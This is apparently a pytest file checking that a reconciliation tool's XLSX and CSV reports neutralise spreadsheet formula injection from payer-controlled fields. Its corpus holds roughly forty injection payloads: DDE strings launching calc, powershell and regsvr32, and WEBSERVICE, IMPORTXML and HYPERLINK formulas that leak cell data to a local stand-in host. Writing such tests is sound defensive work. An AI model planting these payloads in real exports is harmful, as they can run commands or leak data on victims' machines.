"""Issue #19: payloads a payer controls (remittance text, counterparty name, bank reference) travel
statement -> ``cvhub recon run`` -> ``cvhub recon report`` and must arrive inert.

The corpus: the four payloads of the issue and 36 more (DDE variants, IMPORTXML / WEBSERVICE /
IMPORTDATA / HYPERLINK, full-width and other look-alike signs, leading whitespace and invisible
characters, quotes and separators inside the value, CR/LF/TAB). Asserted for the package written:
no XLSX cell is a formula (openpyxl) and every text cell holds the stored text; every CSV text
cell restores exactly to the stored text; LibreOffice Calc, importing the CSV at its most credulous
(formulas evaluated, spaces trimmed, comma/semicolon/tab separators) and opening the XLSX, makes
no formula of anything and keeps the amounts numbers. A control file written the old way proves
that the same Calc does evaluate these payloads, so the test can fail.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from recon_world import DUE, ClearingWorld, entry, statement
from spreadsheet import open_in_calc
from sqlalchemy import select
from typer.testing import CliRunner

from cvhub.cli import app
from ledger.canonical import Party
from ledger.inert import formula_like, restore_csv_cell
from ledger.recon.models import LineRow, MatchRow

DAY = DUE + timedelta(days=1)

ISSUE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/x","click")',
    "+SUM(1+1)*cmd|' /C notepad'!A0",
    "@SUM(1+1)",
]
MORE = [
    # DDE and command variants
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|'/C powershell -nop -c IEX(1)'!A0",
    "@cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://127.0.0.1:9/x.sct scrobj.dll'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    # data exfiltration and links
    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=",A2),"//a")',
    '=WEBSERVICE("http://127.0.0.1:9/leak?"&B2)',
    '=IMPORTDATA("http://127.0.0.1:9/x.csv")',
    '=HYPERLINK("http://127.0.0.1:9/"&C2,"Error: click to fix")',
    "=1+1",
    "+1+1",
    "-1+1",
    # look-alikes of = + - @
    "＝cmd|' /C calc'!A0",
    "＋SUM(1+1)",
    "－1+1",
    "＠SUM(1+1)",
    "﹦1+1",
    "⁼1+1",
    "−1+1",
    "—1+1",
    # leading whitespace and invisible characters
    "  =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=HYPERLINK(\"http://127.0.0.1:9/\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    # quotes and separators inside the value
    '=1+2";=1+2',
    'a";=1+2',
    "x,=1+1",
    "x;=1+1",
    "x\t=1+1",
    "x\r\n=1+1",
    "'=1+1",
]
PAYLOADS = ISSUE + MORE
assert len(MORE) >= 20


def _entries(world: ClearingWorld) -> list[Any]:
    """Two lines pay instructions by EndToEndId (hostile counterparty and bank reference: MATCHED
    rows); every payload is once the remittance and once the counterparty name of an unmatched line."""
    rows = [
        entry(30000, on=DAY, end_to_end_id=world.by_amount(30000).end_to_end_id,
              counterparty=Party(name=ISSUE[1], account="6222000000000003"),
              account_servicer_ref="@SUM(1+1)"),
        entry(70000, on=DAY, end_to_end_id=world.by_amount(70000).end_to_end_id,
              counterparty=Party(name=ISSUE[0]), account_servicer_ref="=1+1"),
    ]
    for n, p in enumerate(PAYLOADS):
        rows.append(entry(100 + n, "CRDT", on=DAY, remittance_info=p))
        rows.append(entry(500 + n, "CRDT", on=DAY, counterparty=Party(name=p)))
    return rows


def _camt_file(world: ClearingWorld, path: Path) -> Path:
    from mappings.camt import render_camt053

    st = statement(_entries(world), sid="CAMT-INJ", to_date=DAY)
    net = sum(e.signed_minor for e in st.entries)
    st = type(st)(**{**{f: getattr(st, f) for f in st.__dataclass_fields__},
                     "opening_balance_minor": 10_000_000, "closing_balance_minor": 10_000_000 + net})
    path.write_bytes(render_camt053(st))
    return path


def _json_file(world: ClearingWorld, path: Path) -> Path:
    from ledger.recon.statement_json import dump_statements

    path.write_text(dump_statements([statement(_entries(world), sid="JSON-INJ", to_date=DAY)]), "utf-8")
    return path


def _run_and_report(world: ClearingWorld, stmt: Path, out: Path, encoding: str) -> None:
    runner = CliRunner()
    res = runner.invoke(app, ["recon", "run", "--statement", str(stmt), "--db", world.url])
    assert res.exit_code == 0, res.output
    assert "matched=2" in res.output
    res = runner.invoke(app, ["recon", "report", "--date", DAY.isoformat(), "--out", str(out),
                              "--db", world.url, "--encoding", encoding])
    assert res.exit_code == 0, res.output


def _stored_texts(world: ClearingWorld) -> set[str]:
    """What reconciliation stored (the mapping may have trimmed): what the files must carry."""
    with world.ledger.session() as s:
        texts = {t for r in s.execute(select(LineRow.remittance_info, LineRow.counterparty)) for t in r if t}
        texts |= {t for r in s.execute(select(MatchRow.counterparty, MatchRow.bank_ref)) for t in r if t}
    return texts


def _control_csv(path: Path, encoding: str) -> Path:
    """The payloads written the way the package wrote them before #19 (csv.writer, nothing done)."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    for p in [*ISSUE, "  =1+1", '=HYPERLINK("http://127.0.0.1:9/x","click")']:
        w.writerow(["x", p])
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


@pytest.mark.parametrize(("source", "encoding"), [("camt053", "utf-8-sig"), ("json", "gb18030")])
def test_injection_corpus_arrives_inert(world: ClearingWorld, tmp_path: Path, source: str,
                                        encoding: str) -> None:
    stmt = (_camt_file(world, tmp_path / "camt053.xml") if source == "camt053"
            else _json_file(world, tmp_path / "statement.json"))
    out = tmp_path / "pkg"
    _run_and_report(world, stmt, out, encoding)
    stored = _stored_texts(world)
    hostile = {t for t in stored if formula_like(t)}
    # the corpus survived the mapping as payloads (camt trims leading blanks: some become "=1+1";
    # the five with a separator inside do not start like a formula, nor does "'=1+1")
    if source == "json":
        expected = {p for p in PAYLOADS if formula_like(p)} | {f"{ISSUE[1]} / 6222000000000003"}
        assert hostile == expected and len(expected) == len(PAYLOADS) - 6 + 1
    else:
        assert set(ISSUE) <= hostile and len(hostile) >= 25, sorted(hostile)

    # XLSX: no formula anywhere; hostile text is a quote-prefixed string cell holding the stored text
    xlsx = out / f"recon_{DAY}.xlsx"
    wb = load_workbook(xlsx)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    x = wb["exceptions"]
    header = [c.value for c in x[1]]
    col = {name: header.index(name) for name in ("remittance_info", "counterparty", "amount")}
    in_exceptions = set()
    for row in x.iter_rows(min_row=2):
        for name in ("remittance_info", "counterparty"):
            c = row[col[name]]
            if c.value is not None:
                assert c.data_type == "s"
                assert c.quotePrefix == formula_like(c.value), c.value
                in_exceptions.add(c.value)
        assert row[col["amount"]].data_type == "n"
    in_matched = {c.value for row in wb["matched"].iter_rows(min_row=2) for c in row
                  if isinstance(c.value, str)}
    assert hostile <= in_exceptions | in_matched

    # CSV: every hostile value neutralised with one apostrophe, restorable exactly
    raw = (out / f"recon_{DAY}.csv").read_bytes()
    recs = list(csv.DictReader(io.StringIO(raw.decode(encoding))))
    cells = {restore_csv_cell(r[k]) for r in recs for k in ("counterparty", "bank_ref") if r[k]}
    details = [restore_csv_cell(r["detail"]) for r in recs]
    for t in hostile:
        assert t in cells or any(d.endswith(f"; remittance: {t}") for d in details), t
    for r in recs:
        for k, v in r.items():
            if v and k != "amount":
                assert not formula_like(v) or v.startswith("'"), (k, v)
    assert "''=1+1" in {r["counterparty"] for r in recs}      # an apostrophe of its own is kept

    # the manifest says how many values it neutralised and where the rows come from
    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    assert manifest["inert"]["rule"] == "cvhub.inert/1"
    assert manifest["inert"]["formula_like_values"] >= len(hostile)
    assert [s["statement_key"].split("|")[1] for s in manifest["sources"]] == [
        "CAMT-INJ" if source == "camt053" else "JSON-INJ"]

    # LibreOffice Calc, credulous settings: nothing evaluates; the control file shows it would
    control = _control_csv(tmp_path / "control.csv", encoding)
    calc = open_in_calc([out / f"recon_{DAY}.csv", control], tmp_path, csv_encoding=encoding)
    calc |= open_in_calc([xlsx], tmp_path / "x") if source == "camt053" else {}   # once is enough
    assert len([c for c in calc["control.csv"] if c.data_type == "f"]) >= 3   # =cmd, =HYPERLINK, "  =1+1"
    for name in calc:
        if name != "control.csv":
            assert [c for c in calc[name] if c.data_type == "f"] == [], name
    csv_cells = calc[f"recon_{DAY}.csv"]
    n_rows = 1 + len(recs)
    assert {c.coordinate[0] for c in csv_cells} <= {chr(ord("A") + i) for i in range(22)}  # nothing split
    amounts = [c for c in csv_cells if c.coordinate[0] == "H" and c.coordinate != "H1"]
    assert len(amounts) == n_rows - 1 and all(c.data_type == "n" for c in amounts)
    if source == "camt053":
        calc_texts = {_lines(str(c.value)) for c in calc[f"recon_{DAY}.xlsx"] if c.sheet == "exceptions"}
        assert {_lines(t) for t in hostile & in_exceptions} <= calc_texts


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")
